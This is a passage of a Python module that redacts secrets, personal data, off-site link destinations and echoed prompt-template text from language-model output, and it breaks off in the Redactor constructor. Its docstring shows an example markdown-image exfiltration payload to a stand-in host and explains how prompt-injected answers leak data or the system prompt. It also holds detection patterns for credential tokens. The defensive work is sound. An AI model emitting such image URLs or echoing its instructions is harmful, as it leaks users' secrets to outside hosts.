"""Output filtering (OWASP LLM02, sensitive information disclosure): redact what a model should not say.

A model can repeat personal data or credentials it saw in its prompt, its context or its
training data. :class:`Redactor` replaces such values in response text with markers like
``[REDACTED:email]`` and counts what it replaced, so callers can log or meter leaks
without logging the values themselves::

    result = Redactor().redact("Mail jane@example.com, card 4111 1111 1111 1111")
    result.text    # 'Mail [REDACTED:email], card [REDACTED:payment_card]'
    result.counts  # {'email': 1, 'payment_card': 1}

Kinds, in priority order (:data:`ALL_KINDS`); each kind runs on the output of the ones
before it, so a value is replaced once, by the first kind that claims it (a card number
inside an API key counts as one ``secret``, an IBAN's digits never count as a phone).
The first two are output-side defenses against prompt injection (OWASP LLM02/LLM05):
they do not depend on recognising the attack, only on what an answer must not contain.

``prompt_echo``
    Runs of at least ``echo_words`` consecutive words (default 8; case and whitespace
    ignored) that also appear, in that order, in the function's template, outside its
    ``{{...}}`` variables and ``<message>`` tags: an answer may quote a few words of its
    instructions, never the instructions themselves. Needs ``template=``; without one
    this kind finds nothing. A paraphrase or a translation of the template is not caught.
``link``
    Markdown images and links (inline ``![alt](url)`` / ``[text](url)``, reference
    definitions ``[id]: url``, autolinks ``<scheme:...>``) and HTML ``src``/``href``
    attributes whose URL leaves the page for a host not on ``link_hosts`` (default:
    none). A rendered image is fetched without a click, so a URL carrying data in its
    query (``![x](https://evil.example/?q=<secret>)``) leaks it; links need a click but
    carry the same payload. Only the destination is replaced (``![x][REDACTED:link]``),
    the visible text is kept. Relative URLs stay (they resolve to the page's own site);
    any other scheme (``javascript:``, ``data:``, ``mailto:``) is replaced. Backslashes,
    tabs and controls are read as browsers read them (``https:\\evil``, ``/\\evil``
    lead to evil). Bare URLs in prose are left alone: nothing fetches them unclicked.

``secret``
    Vendor-shaped tokens: PEM private-key blocks (a truncated block up to its last base64
    line), this service's ``skf_<12 hex>_<43 base64url>`` keys, OpenAI ``sk-…`` /
    ``sk-proj-…`` keys, Stripe ``sk_live_…``, GitHub ``ghp_…`` / ``github_pat_…``, Slack
    ``xox[baprse]-…``, AWS access key ids ``AKIA…``, Google ``AIza…``, JWTs
    ``eyJ….eyJ….…``, the token of a ``Bearer <token>`` header; then *generic* values
    assigned to a credential word (``api_key=``, ``"client_secret": "…"``,
    ``AccountKey=``, ``password: …``; the word is kept, only the value is replaced).
    A generic value must look random, because prose says "key: value" too: at least 16
    characters with a letter, a digit and a Shannon entropy of at least 3 bits per
    character (passwords: at least 8 characters with a digit). Words and hashes in
    prose are never secrets unless a credential word is assigned to them.
``email``
    ``local@domain.tld``; the top-level label must be alphabetic, trailing labels that
    are not (``a@b.com.123``) are left out.
``iban``
    Upper-case country code + 2 check digits + BBAN, contiguous or in groups of four,
    with the exact length registered for the country and a valid ISO 7064 mod-97
    checksum. Unknown country codes never match: the registry lists every IBAN country.
``payment_card``
    13-19 digits, contiguous or in card-shaped groups (4-4-4-4[-1..4], Amex 4-6-5,
    Diners 4-6-4) with one separator kind (space or dash); the first digit 2-6 (the
    ISO/IEC 7812 industries of the card networks; 13-digit epoch milliseconds start with
    1); a valid Luhn check digit; not glued to a word, a decimal point or a ``+`` (a
    phone), nor after an IBAN's ``DE89`` (an IBAN with a typo). In a run of more than 6
    digit groups (a table, a list) only contiguous 13-19 digit numbers count.
``phone``
    Deliberately conservative, it is the loosest shape: 9-15 digits, and either an
    international ``+CC`` number (separators space, dash, dot, ``(0)`` and parentheses
    allowed), a North American ``(415) 555-2671`` / ``415-555-2671`` / ``1-800-555-0199``
    with one separator kind, or a national number with a trunk ``0`` (``020 7946 0958``,
    ``06 12 34 56 78``, ``03-1234-5678``) with one separator kind. Never: bare digit runs
    (order numbers), years, prices, dates (too few digits or mixed separators), dotted
    quads (IP addresses), numbers glued to words, dots or dashes (versions, ids).

Two invariants hold for every rule of the value kinds (:data:`VALUE_KINDS`, all but
``prompt_echo`` and ``link``), and the tests check them:

* every replaced value contains an ASCII digit or an ``@`` (secrets must contain a digit:
  random tokens almost always do, prose-like strings rarely), and markers contain
  neither, so text without digits and ``@`` is returned unchanged, and the number of
  digits never grows;
* :meth:`Redactor.redact` is idempotent: it repeats its passes until one finds nothing
  (each replacement removes at least one digit or ``@``, so this terminates), because a
  replacement can expose a value that was glued to the replaced one. The output-side
  kinds keep idempotence too: a replaced link destination is the marker, which reads as
  a relative reference, and a replaced echo run of ``echo_words`` >= 3 words becomes a
  two-word marker, so each pass shortens the text's word count.

All patterns are linear-time on adversarial input: they are bounded, or their unbounded
parts are possessive (Python 3.11) and start only at the beginning of a run (a
lookbehind rejects every position inside one), and scanning resumes after each
candidate, so no character is scanned more than a constant number of times. They start
with a literal or a character class, so the engine skips to candidate positions;
e-mails are searched from their '@'. 100 k characters take tens of milliseconds.
"""

from __future__ import annotations

import math
import re
from collections import Counter
from collections.abc import Callable, Iterable, Iterator
from dataclasses import dataclass
from urllib.parse import urlsplit

SECRET = "secret"  # noqa: S105 (a kind name, not a credential)
EMAIL = "email"
IBAN = "iban"
PAYMENT_CARD = "payment_card"
PHONE = "phone"
PROMPT_ECHO = "prompt_echo"
LINK = "link"

#: The kinds that replace a value (a key, an address, a number): digits or ``@`` inside.
VALUE_KINDS: tuple[str, ...] = (SECRET, EMAIL, IBAN, PAYMENT_CARD, PHONE)
#: Every kind, in priority order: the first kind that claims a value replaces it. The
#: output-side kinds come first: a leaking URL or an echoed template is one finding, not
#: the e-mail address inside it.
ALL_KINDS: tuple[str, ...] = (PROMPT_ECHO, LINK, *VALUE_KINDS)
#: Default for ``echo_words``: eight words in a row is a quote, not a coincidence.
DEFAULT_ECHO_WORDS = 8

Span = tuple[int, int]
_Judge = Callable[[str, re.Match[str]], tuple[list[Span], int]]
_Finder = Callable[[str], list[Span]]


def marker(kind: str) -> str:
    """The text that replaces a value of ``kind``: no digits and no ``@``, so it never matches."""
    return f"[REDACTED:{kind}]"


@dataclass(frozen=True, slots=True)
class RedactionResult:
    """Redacted text and how many values of each kind were replaced (kinds with none are absent)."""

    text: str
    counts: dict[str, int]

    @property
    def total(self) -> int:
        """Values replaced, all kinds together."""
        return sum(self.counts.values())


# --- shared helpers -------------------------------------------------------------------

# Every pattern is ASCII-only: with Unicode semantics, IGNORECASE folds the Kelvin sign
# into "k" and \d matches Arabic-Indic digits, neither of which is a card or a key.
_FLAGS = re.ASCII | re.VERBOSE

_ALNUM = frozenset("abcdefghijklmnopqrstuvwxyzABCDEFGHIJKLMNOPQRSTUVWXYZ0123456789")
_DIGITS = frozenset("0123456789")


def _has_digit(value: str) -> bool:
    return any(ch in _DIGITS for ch in value)


def _glued(text: str, index: int) -> bool:
    """Whether ``text[index]`` is a letter, digit or underscore (the value would continue a word)."""
    return index < len(text) and (text[index] in _ALNUM or text[index] == "_")


def _scan(pattern: re.Pattern[str], judge: _Judge) -> _Finder:
    """A finder: every candidate of ``pattern``, judged, resuming where the judge says.

    The judge returns the spans to replace and where to resume; resuming never goes
    backwards, so candidates (and their spans) are disjoint and in order.
    """

    def find(text: str) -> list[Span]:
        spans: list[Span] = []
        pos = 0
        while (match := pattern.search(text, pos)) is not None:
            found, resume = judge(text, match)
            spans.extend(found)
            pos = max(resume, match.start() + 1)
        return spans

    return find


def _whole_if(predicate: Callable[[str], bool], group: str | int = 0) -> _Judge:
    """Judge: replace ``group`` of the match when ``predicate`` holds; resume after the match."""

    def judge(_text: str, match: re.Match[str]) -> tuple[list[Span], int]:
        if predicate(match.group(group)):
            return [match.span(group)], match.end()
        return [], match.end()

    return judge


# --- secret ---------------------------------------------------------------------------

_PEM_HEADER = r"-----BEGIN\ (?:[A-Z0-9]+\ ){0,4}PRIVATE\ KEY(?:\ BLOCK)?-----"
_PEM_RE = re.compile(
    rf"""
    {_PEM_HEADER}
    (?:\s*+[A-Za-z][A-Za-z-]*+:[^\r\n]*+)*+   # armour headers (Proc-Type:, Version:)
    (?P<body>[A-Za-z0-9+/=\s]*+)               # base64; stops at the next '-'
    (?P<end>-----END\ (?:[A-Z0-9]+\ ){{0,4}}PRIVATE\ KEY(?:\ BLOCK)?-----)?
    """,
    _FLAGS,
)
_BASE64_LINE = re.compile(r"[A-Za-z0-9+/=]+", re.ASCII)


def _judge_pem(_text: str, match: re.Match[str]) -> tuple[list[Span], int]:
    if match.group("end") is not None:
        return ([match.span()] if _has_digit(match.group()) else []), match.end()
    # Truncated block (a model stopped mid-key): the body pattern would also swallow the
    # prose after it, so keep only the leading lines that are pure base64.
    end = match.start("body")
    kept = 0
    offset = end
    for line in match.group("body").splitlines(keepends=True):
        stripped = line.strip()
        if stripped and _BASE64_LINE.fullmatch(stripped) is None:
            break
        if stripped:
            kept += len(stripped)
            end = offset + len(line.rstrip())
        offset += len(line)
    if kept >= 40 and _has_digit(match.string[match.start() : end]):
        return [(match.start(), end)], end
    return [], match.end()


def _mixed(value: str) -> bool:
    """Upper case, lower case and a digit: random base62, not a kebab-case name."""
    return any(ch.isupper() for ch in value) and any(ch.islower() for ch in value) and _has_digit(value)


# Every pattern below starts with a literal or a character class and checks the character
# before it with a lookbehind placed *after* that first character: the regex engine can
# then skip ahead to candidate positions instead of trying a lookbehind at every one.
_OPENAI_RE = re.compile(
    r"sk-(?<![A-Za-z0-9_-]sk-)(?P<scoped>(?:proj|svcacct|admin)-)?+(?P<body>[A-Za-z0-9_-]{20,}+)", _FLAGS
)


def _judge_openai(_text: str, match: re.Match[str]) -> tuple[list[Span], int]:
    # The project/service-account prefixes are specific enough; a bare "sk-" also starts
    # hyphenated names ("sk-functions-…"), so its body must look random.
    body = match.group("body")
    ok = _has_digit(body) if match.group("scoped") else _mixed(body)
    return ([match.span()] if ok else []), match.end()


# Vendor tokens whose prefix is distinctive: the only extra condition is the digit rule.
_SKF_PATTERN = r"skf_(?<![A-Za-z0-9_-]skf_)[0-9a-f]{12}_[A-Za-z0-9_-]{43}(?![A-Za-z0-9_-])"
_VENDOR_PATTERNS = (
    r"[sr]k_(?<![A-Za-z0-9_][sr]k_)(?:live|test)_[A-Za-z0-9]{16,}+",  # Stripe secret/restricted
    r"g(?<![A-Za-z0-9_]g)(?:h[pousr]_[A-Za-z0-9]{36,}+|ithub_pat_[A-Za-z0-9_]{22,}+)",  # GitHub
    r"xox[baprse]-(?<![A-Za-z0-9_-]xox[baprse]-)[A-Za-z0-9-]{10,}+",  # Slack
    r"A(?<![A-Za-z0-9]A)(?:KIA|SIA|BIA|CCA)[0-9A-Z]{16}(?![A-Za-z0-9])",  # AWS access key id
    r"AIza(?<![A-Za-z0-9_-]AIza)[0-9A-Za-z_-]{35}(?![A-Za-z0-9_-])",  # Google API key
    r"eyJ(?<![A-Za-z0-9_-]eyJ)[A-Za-z0-9_-]{8,}+\.eyJ[A-Za-z0-9_-]{8,}+\.[A-Za-z0-9_-]*+",  # JWT
)

_BEARER_RE = re.compile(
    r"[Bb](?<![A-Za-z0-9][Bb])(?:earer|EARER)[\ \t]++(?P<value>[A-Za-z0-9._~+/-]{16,}+=*+)", _FLAGS
)


def _token_like(value: str) -> bool:
    return _has_digit(value) and any(ch.isalpha() for ch in value)


# Generic secrets: an assignment (``=``, ``:``, ``:=``, ``=>``, ``==``) is searched for
# first, since that is cheap, then a credential word right before it. The value stops at
# '=' (but keeps base64 padding), '&', ';', quotes and spaces, so query strings and
# connection strings split into their fields; it must contain a digit (lookahead).
_ASSIGNMENT_RE = re.compile(
    r"""
    [:=][=>]?+[\ \t]*+["']?+
    (?=[A-Za-z!\#$%*+/@^_.~-]*+[0-9])
    (?P<value>[A-Za-z0-9!\#$%*+/@^_.~-]{8,}+=*+)
    """,
    _FLAGS,
)
_CREDENTIAL_WORD_WINDOW = 40  # enough for "SECRET_ACCESS_KEY" plus quotes and spaces
_PASSWORD_WORDS = ("password", "passwd", "pwd")
_CREDENTIAL_WORDS = (
    "key",
    "secret",
    "token",
    "credential",
    "credentials",
    "sig",
    "signature",
    *_PASSWORD_WORDS,
)
# Glued lower- or upper-case compounds ("apikey", "ACCESSTOKEN"): no boundary inside.
_CREDENTIAL_COMPOUNDS = tuple(
    prefix + word
    for prefix in ("api", "access", "secret", "private", "auth", "client", "refresh", "session")
    for word in ("key", "token", "secret")
)
_ALL_CREDENTIAL_WORDS = (*_CREDENTIAL_COMPOUNDS, *_CREDENTIAL_WORDS)  # compounds first: longest match


def _credential_word(before: str) -> str | None:
    """The credential word ending ``before`` (quotes and blanks allowed after it), lower-cased.

    The word must start at a non-letter (``api_key``, ``"token"``, ``SECRET_KEY``), or be
    the CamelCase tail of an identifier (``AccountKey``, ``clientSecret``), or a known
    compound (``apikey``), so "monkey" or "turnkey" never count.
    """
    head = before.rstrip(" \t")
    if head[-1:] in ("'", '"'):
        head = head[:-1]
    lower = head.lower()
    if not lower.endswith(_ALL_CREDENTIAL_WORDS):  # one C-level test rejects most candidates
        return None
    for word in _ALL_CREDENTIAL_WORDS:
        if not lower.endswith(word):
            continue
        start = len(head) - len(word)
        if start == 0 or not head[start - 1].isalpha():
            return word
        tail = head[start:]
        if tail[0].isupper() and tail[1:].islower() and head[start - 1].islower():
            return word
    return None


def _entropy(value: str) -> float:
    """Shannon entropy in bits per character."""
    n = len(value)
    return -sum(c / n * math.log2(c / n) for c in Counter(value).values())


def _judge_assignment(text: str, match: re.Match[str]) -> tuple[list[Span], int]:
    word = _credential_word(text[max(0, match.start() - _CREDENTIAL_WORD_WINDOW) : match.start()])
    if word is None:
        return [], match.end()
    value = match.group("value")
    if word in _PASSWORD_WORDS:
        ok = True  # passwords are short and chosen by people; the word itself is the signal
    else:
        ok = len(value) >= 16 and any(ch.isalpha() for ch in value) and _entropy(value) >= 3.0
    return ([match.span("value")] if ok else []), match.end()


_SECRET_FINDERS: tuple[_Finder, ...] = (
    _scan(_PEM_RE, _judge_pem),
    _scan(re.compile(_SKF_PATTERN, _FLAGS), _whole_if(_has_digit)),
    _scan(_OPENAI_RE, _judge_openai),
    *(_scan(re.compile(p, _FLAGS), _whole_if(_has_digit)) for p in _VENDOR_PATTERNS),
    _scan(_BEARER_RE, _whole_if(_token_like, "value")),
    _scan(_ASSIGNMENT_RE, _judge_assignment),
)


# --- email ----------------------------------------------------------------------------

_LOCAL_CHARS = frozenset("abcdefghijklmnopqrstuvwxyzABCDEFGHIJKLMNOPQRSTUVWXYZ0123456789._%+-")
# '@', labels, then an alphabetic top-level label that ends the name. The label loop may
# give back labels one at a time ("a@b.com.123" ends at "com"), which is linear.
_AT_DOMAIN_RE = re.compile(r"@(?:[A-Za-z0-9-]++\.)+[A-Za-z]{2,63}+(?![A-Za-z0-9-])", re.ASCII)
_ALNUM_RE = re.compile(r"[A-Za-z0-9]", re.ASCII)
_LABEL_RE = re.compile(r"[A-Za-z0-9](?:[A-Za-z0-9-]{0,61}[A-Za-z0-9])?", re.ASCII)


def _find_emails(text: str) -> list[Span]:
    """Addresses, found from an '@' with a domain after it, then the local part walked back.

    The walk stops at the previous '@' or address, so every character is read at most
    twice, whatever the input.
    """
    spans: list[Span] = []
    floor = pos = 0
    while (match := _AT_DOMAIN_RE.search(text, pos)) is not None:
        at = start = match.start()
        while start > floor and text[start - 1] in _LOCAL_CHARS:
            start -= 1
        domain = match.group()[1:]
        if _ALNUM_RE.search(text, start, at) is not None and (
            # Only a hyphen or a long name can make a label invalid: skip the check otherwise.
            ("-" not in domain and len(domain) <= 63)
            or all(_LABEL_RE.fullmatch(label) for label in domain.split("."))
        ):
            spans.append((start, match.end()))
            floor = pos = match.end()
        else:
            pos = at + 1
    return spans


# --- IBAN -----------------------------------------------------------------------------

# ISO 13616 registry (SWIFT), IBAN length per country.
_IBAN_LENGTHS: dict[str, int] = {
    "AD": 24, "AE": 23, "AL": 28, "AT": 20, "AZ": 28, "BA": 20, "BE": 16, "BG": 22, "BH": 22,
    "BI": 27, "BR": 29, "BY": 28, "CH": 21, "CR": 22, "CY": 28, "CZ": 24, "DE": 22, "DJ": 27,
    "DK": 18, "DO": 28, "EE": 20, "EG": 29, "ES": 24, "FI": 18, "FK": 18, "FO": 18, "FR": 27,
    "GB": 22, "GE": 22, "GI": 23, "GL": 18, "GR": 27, "GT": 28, "HN": 28, "HR": 21, "HU": 28,
    "IE": 22, "IL": 23, "IQ": 23, "IS": 26, "IT": 27, "JO": 30, "KW": 30, "KZ": 20, "LB": 28,
    "LC": 32, "LI": 21, "LT": 20, "LU": 20, "LV": 21, "LY": 25, "MC": 27, "MD": 24, "ME": 22,
    "MK": 19, "MN": 20, "MR": 27, "MT": 31, "MU": 30, "NI": 28, "NL": 18, "NO": 15, "OM": 23,
    "PK": 24, "PL": 28, "PS": 29, "PT": 25, "QA": 29, "RO": 24, "RS": 22, "RU": 33, "SA": 24,
    "SC": 31, "SD": 18, "SE": 24, "SI": 19, "SK": 24, "SM": 27, "SO": 23, "ST": 25, "SV": 28,
    "TL": 23, "TN": 24, "TR": 26, "UA": 29, "VA": 22, "VG": 24, "XK": 20, "YE": 30,
}  # fmt: skip


def _iban_pattern() -> re.Pattern[str]:
    """One branch per IBAN length, each listing its countries, so only exact lengths match.

    Contiguous or in groups of four separated by single spaces. The country is read as
    two letters first and checked by a lookbehind, so the pattern starts with a plain
    character class, which the engine searches for quickly.
    """
    by_length: dict[int, list[str]] = {}
    for country, length in sorted(_IBAN_LENGTHS.items()):
        by_length.setdefault(length, []).append(country)
    branches = []
    for length, countries in sorted(by_length.items()):
        groups, rest = divmod(length - 4, 4)
        tail = rf"(?:\ ?[A-Za-z0-9]{{4}}){{{groups}}}" + (rf"\ ?[A-Za-z0-9]{{{rest}}}" if rest else "")
        branches.append(rf"(?<={'|'.join(countries)})[0-9]{{2}}{tail}")
    return re.compile(
        rf"[A-Z](?<![A-Za-z0-9][A-Z])[A-Z](?:{'|'.join(branches)})(?![A-Za-z0-9])",
        _FLAGS,
    )


_IBAN_RE = _iban_pattern()
_IBAN_LETTERS = str.maketrans({ch: str(ord(ch) - 55) for ch in "ABCDEFGHIJKLMNOPQRSTUVWXYZ"})


def iban_valid(iban: str) -> bool:
    """ISO 7064 mod-97-10 check of a compact IBAN (country code, check digits, BBAN)."""
    rearranged = (iban[4:] + iban[:4]).upper()
    if not (rearranged.isascii() and rearranged.isalnum()):
        return False
    return int(rearranged.translate(_IBAN_LETTERS)) % 97 == 1


def _judge_iban(_text: str, match: re.Match[str]) -> tuple[list[Span], int]:
    if iban_valid(match.group().replace(" ", "")):
        return [match.span()], match.end()
    return [], match.start() + 1


# --- payment card ---------------------------------------------------------------------

# A run of digit groups joined by single spaces or dashes, with at least 13 digits; not
# after a letter or digit (part of a word) or a "+" (a phone number).
_CARD_RUN_RE = re.compile(
    r"[0-9](?<![A-Za-z0-9_+][0-9])(?=(?:[\ -]?+[0-9]){12})[0-9]*+(?:[\ -][0-9]++)*+", _FLAGS
)
_LONE_CARD_RE = re.compile(r"(?<![0-9])[0-9]{13,19}(?![0-9])", re.ASCII)
_DIGIT_GROUP_RE = re.compile(r"[0-9]+", re.ASCII)
_IBAN_HEAD_RE = re.compile(r"[A-Z]{2}[0-9]{2}\ ", _FLAGS)
_MAX_CARD_RUN_GROUPS = 6  # 4-4-4-4-3 plus, say, a CVV; more is a list of numbers


def luhn_valid(digits: str) -> bool:
    """The Luhn (mod 10) check every payment card number carries in its last digit."""
    total = 0
    for index, ch in enumerate(reversed(digits)):
        value = ord(ch) - 48
        if index % 2:
            value = value * 2 - 9 if value > 4 else value * 2
        total += value
    return total % 10 == 0


def _card_shaped(text: str, groups: list[Span]) -> bool:
    sizes = [end - start for start, end in groups]
    if not 13 <= sum(sizes) <= 19 or text[groups[0][0]] not in "23456":
        return False
    digits = "".join(text[start:end] for start, end in groups)
    if len(groups) > 1:
        if len({text[start - 1] for start, _ in groups[1:]}) != 1:
            return False
        if not (
            (all(size == 4 for size in sizes[:-1]) and 1 <= sizes[-1] <= 4) or sizes in ([4, 6, 5], [4, 6, 4])
        ):
            return False
    return luhn_valid(digits)


def _judge_card(text: str, match: re.Match[str]) -> tuple[list[Span], int]:
    start, end = match.span()
    run = match.group()
    if run.count(" ") + run.count("-") >= _MAX_CARD_RUN_GROUPS:
        # A list of numbers: only a whole contiguous card number inside it counts.
        lone = [m.span() for m in _LONE_CARD_RE.finditer(text, start, end)]
        return [span for span in lone if _card_shaped(text, [span]) and not _glued(text, span[1])], end
    if _IBAN_HEAD_RE.fullmatch(text, max(0, start - 5), start):
        # The digits of an IBAN whose checksum failed (a typo) are not a card either.
        return [], end
    groups = [m.span() for m in _DIGIT_GROUP_RE.finditer(text, start, end)]
    # Decimals ("0.4111…", "…1111,5") and digits glued to a word are not card digits.
    if start >= 2 and text[start - 1] in ".," and text[start - 2] in _DIGITS:
        groups = groups[1:]
    if groups and (
        _glued(text, end) or (text[end : end + 1] in (".", ",") and text[end + 1 : end + 2] in _DIGITS)
    ):
        groups = groups[:-1]
    spans: list[Span] = []
    i = 0
    while i < len(groups):
        for j in range(min(len(groups), i + 5), i, -1):
            if _card_shaped(text, groups[i:j]):
                spans.append((groups[i][0], groups[j - 1][1]))
                i = j
                break
        else:
            i += 1
    return spans, end


# --- phone ----------------------------------------------------------------------------

# Not after a letter, digit, '+', '.', '-', '/', '#' or '$': those make it part of a
# version, an id, a path, a range or a price. At least 9 digits ahead. Possessive
# digit runs make the split into groups unique, so a failing candidate never backtracks.
_NOT_PHONE_BEFORE = r"[A-Za-z0-9_+./\#$-]"
_PHONE_RE = re.compile(
    rf"""
    (?:
        \+(?<!{_NOT_PHONE_BEFORE}\+)(?=(?:[\ .()-]{{0,2}}[0-9]){{9}})[0-9]++
      | \((?<!{_NOT_PHONE_BEFORE}\()(?=(?:[\ .()-]{{0,2}}[0-9]){{9}})[0-9]++\)
      | [0-9](?<!{_NOT_PHONE_BEFORE}[0-9])(?=(?:[\ .()-]{{0,2}}[0-9]){{8}})[0-9]*+
    )
    (?:[\ .-]?+(?:\([0-9]++\)|[0-9]++))*+
    """,
    _FLAGS,
)
_PHONE_TOKEN_RE = re.compile(r"(?P<sep>[ .-]?)(?P<paren>\()?(?P<digits>[0-9]+)\)?", re.ASCII)
_NON_DIGITS_RE = re.compile(r"[^0-9]+", re.ASCII)
_MAX_PHONE_CHARS = 32
_TRUNK_RE = re.compile(r"0[1-9][0-9]{0,3}", re.ASCII)


def _phone_valid(candidate: str) -> bool:
    if candidate.startswith("+"):
        # "+44 (0)20 …": the bracketed trunk zero is not dialled from abroad.
        digits = len(_NON_DIGITS_RE.sub("", candidate)) - candidate.count("(0)")
        return 9 <= digits <= 15
    tokens = [
        (m.group("sep"), m.group("paren") is not None, m.group("digits"))
        for m in _PHONE_TOKEN_RE.finditer(candidate)
    ]
    if len(tokens) < 2 or any(paren for _, paren, _ in tokens[1:]):
        return False
    sizes = [len(d) for _, _, d in tokens]
    # One separator kind throughout; after "(415)" a space or nothing.
    seps = [sep for sep, _, _ in tokens[1:]]
    if tokens[0][1]:
        if seps[0] not in ("", " "):
            return False
        seps = seps[1:]
    if "" in seps or len(set(seps)) > 1:
        return False
    if seps == ["."] * 3 and all(size <= 3 for size in sizes):
        return False  # a dotted quad: an IP address
    first = tokens[0][2]
    if sizes == [3, 3, 4] or (sizes == [1, 3, 3, 4] and first == "1" and not tokens[0][1]):
        area, exchange = (tokens[-3][2], tokens[-2][2])
        return area[0] in "23456789" and exchange[0] in "23456789"
    return (
        _TRUNK_RE.fullmatch(first) is not None
        and all(2 <= size <= 8 for size in sizes[1:])
        and 9 <= sum(sizes) <= 12
    )


def _judge_phone(text: str, match: re.Match[str]) -> tuple[list[Span], int]:
    candidate = match.group()
    if len(candidate) <= _MAX_PHONE_CHARS and not _glued(text, match.end()) and _phone_valid(candidate):
        return [match.span()], match.end()
    return [], match.end()


# --- link -----------------------------------------------------------------------------

# Inline destination: found from "](" so that link text with nested brackets needs no
# parsing; one level of balanced parentheses, as CommonMark allows; an optional title.
_INLINE_LINK_RE = re.compile(
    r"""
    \]\(
    [\ \t\n]*+
    (?P<dest><[^<>\n]*+>|(?:[^\s()]++|\([^\s()]*+\))++)
    (?:[\ \t\n]++(?:"[^"\n]*+"|'[^'\n]*+'|\([^()\n]*+\)))?+
    [\ \t\n]*+\)
    """,
    re.VERBOSE,
)
_REFERENCE_DEF_RE = re.compile(
    r"^[\ \t]{0,3}\[[^\[\]\n]{1,999}+\]:[\ \t]*+(?P<dest><[^<>\n]*+>|\S++)", re.MULTILINE | re.VERBOSE
)
_AUTOLINK_RE = re.compile(r"<(?P<dest>[A-Za-z][A-Za-z0-9+.-]{1,31}+:[^\s<>]*+)>")
_HTML_URL_ATTR_RE = re.compile(
    r"""\b(?:src|href|srcset|action|formaction|poster|background|data)[\ \t]*+=[\ \t]*+
    (?:"(?P<dq>[^"]*+)"|'(?P<sq>[^']*+)'|(?P<bare>[^\s"'>]++))""",
    re.IGNORECASE | re.VERBOSE,
)
# Browsers drop tabs, newlines and leading/trailing controls from a URL and read "\" as
# "/" in http(s) URLs, so "java\tscript:" and "/\evil.example" must be read the same way.
_URL_IGNORED_RE = re.compile(r"[\x00-\x20\x7f]+")


def _url_allowed(raw: str, exact: frozenset[str], suffixes: tuple[str, ...]) -> bool:
    url = _URL_IGNORED_RE.sub("", raw.strip("<>")).replace("\\", "/")
    try:
        parts = urlsplit(url)
        host = (parts.hostname or "").rstrip(".")
    except ValueError:  # an invalid port or IPv6 literal: not a URL we can vouch for
        return False
    if not parts.scheme and not parts.netloc:
        return True  # relative: resolves to the page's own site
    if parts.scheme.lower() not in ("http", "https", "") or not host:
        return False
    return host in exact or host.endswith(suffixes)


def _link_finder(hosts: Iterable[str]) -> _Finder:
    """Destinations of links and images whose host is not allowed (``*.x`` allows subdomains of x)."""
    cleaned = [host.strip().lower().rstrip(".") for host in hosts if host.strip()]
    exact = frozenset(host for host in cleaned if not host.startswith("*."))
    suffixes = tuple(host[1:] for host in cleaned if host.startswith("*."))

    def bad(dest: str) -> bool:
        return not _url_allowed(dest, exact, suffixes)

    def find(text: str) -> list[Span]:
        spans: list[Span] = []
        if "](" in text:
            # The whole "(destination title)", so the title goes too.
            spans += [(m.start() + 1, m.end()) for m in _INLINE_LINK_RE.finditer(text) if bad(m["dest"])]
        if "]:" in text:
            spans += [m.span("dest") for m in _REFERENCE_DEF_RE.finditer(text) if bad(m["dest"])]
        if "<" in text:
            spans += [m.span() for m in _AUTOLINK_RE.finditer(text) if bad(m["dest"])]
        if "=" in text:
            for m in _HTML_URL_ATTR_RE.finditer(text):
                group = "dq" if m["dq"] is not None else "sq" if m["sq"] is not None else "bare"
                if bad(m[group]):
                    spans.append(m.span(group))
        return _disjoint(spans)

    return find


def _disjoint(spans: list[Span]) -> list[Span]:
    """Sorted, with spans inside an earlier one dropped (an autolink inside a link's URL)."""
    kept: list[Span] = []
    for start, end in sorted(spans):
        if kept and start < kept[-1][1]:
            if end > kept[-1][1]:
                kept[-1] = (kept[-1][0], end)
            continue
        kept.append((start, end))
    return kept


# --- prompt echo ----------------------------------------------------------------------

# What a template renders that is not its own text: variables and function calls
# (SK, handlebars and jinja2 share the braces), jinja2 statements and comments, and the
# <message role="..."> tags SK turns into chat messages.
_TEMPLATE_MARKUP_RE = re.compile(r"\{\{.*?\}\}|\{%.*?%\}|\{#.*?#\}|</?message\b[^>]*>", re.DOTALL)
_WORD_RE = re.compile(r"\w+")


def template_literals(template: str) -> list[str]:
    """The literal text of a prompt template: the pieces between variables and tags."""
    return [piece for piece in _TEMPLATE_MARKUP_RE.split(template) if piece.strip()]


def _echo_finder(template: str, words: int) -> _Finder | None:
    """Runs of ``words`` or more consecutive template words in the text (None: nothing to protect)."""
    shingles: set[tuple[str, ...]] = set()
    for piece in template_literals(template):
        tokens = [w.casefold() for w in _WORD_RE.findall(piece)]
        shingles.update(tuple(tokens[i : i + words]) for i in range(len(tokens) - words + 1))
    if not shingles:
        return None

    def find(text: str) -> list[Span]:
        matches = list(_WORD_RE.finditer(text))
        tokens = [m.group().casefold() for m in matches]
        spans: list[Span] = []
        run_end = -1  # index of the last word of the current run
        for i in range(len(tokens) - words + 1):
            if tuple(tokens[i : i + words]) in shingles:
                last = i + words - 1
                if spans and i <= run_end + 1:  # overlaps or touches the current run
                    spans[-1] = (spans[-1][0], matches[last].end())
                else:
                    spans.append((matches[i].start(), matches[last].end()))
                run_end = last
        return spans

    return find


# --- the redactor ---------------------------------------------------------------------

_FINDERS: dict[str, tuple[_Finder, ...]] = {
    SECRET: _SECRET_FINDERS,
    EMAIL: (_find_emails,),
    IBAN: (_scan(_IBAN_RE, _judge_iban),),
    PAYMENT_CARD: (_scan(_CARD_RUN_RE, _judge_card),),
    PHONE: (_scan(_PHONE_RE, _judge_phone),),
}


def _replace(text: str, spans: list[Span], replacement: str) -> str:
    parts: list[str] = []
    pos = 0
    for start, end in spans:
        parts.append(text[pos:start])
        parts.append(replacement)
        pos = end
    parts.append(text[pos:])
    return "".join(parts)


class Redactor:
    """Replaces sensitive values of the chosen kinds with ``[REDACTED:<kind>]`` markers.

    ``link_hosts`` are the hosts whose links and images may stay (``*.example.com``
    allows its subdomains); ``template`` is the function's prompt template, whose text
    an answer must not echo for ``echo_words`` words or more in a row. Both only matter
    when their kind (``link``, ``prompt_echo``) is selected.

    Stateless and thread-safe: build one per configuration and share it.
    """

    def __init__(
        self,
        kinds: Iterable[str] = ALL_KINDS,
        *,
        link_hosts: Iterable[str] = (),
        template: str = "",
        echo_words: int = DEFAULT_ECHO_WORDS,
    ) -> None:
        wanted = set(kinds)
        unknown = wanted - set(ALL_KINDS)
        if unknown:
            raise ValueError(f"unknown redaction kinds: {sorted(unknown)}; known: {list(ALL_KINDS)}")
        if echo_words < 3:
            # Below three words, a replaced run would not shorten the text (the marker
            # itself reads as two words) and common phrases would be redacted.
            raise ValueError("echo_words must be at least 3")
